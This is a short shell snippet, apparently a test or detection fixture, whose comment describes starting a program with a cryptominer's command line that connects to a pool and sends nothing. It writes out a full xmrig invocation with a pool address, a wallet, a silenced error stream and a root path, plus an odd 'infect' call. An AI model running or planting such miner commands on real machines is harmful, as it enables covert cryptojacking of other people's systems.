# A program is started with the command line of a miner: a pool, a wallet, an algorithm. It connects to the pool's port
# and sends nothing.
/root/xmrig -o stratum+tcp://203.0.113.20:3333 \
    -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD \
    -p x -a rx/0 --donate-level 1 2>/dev/null
/root/xmrig infect 203.0.113.20:3333 /root/xmrig.log 1
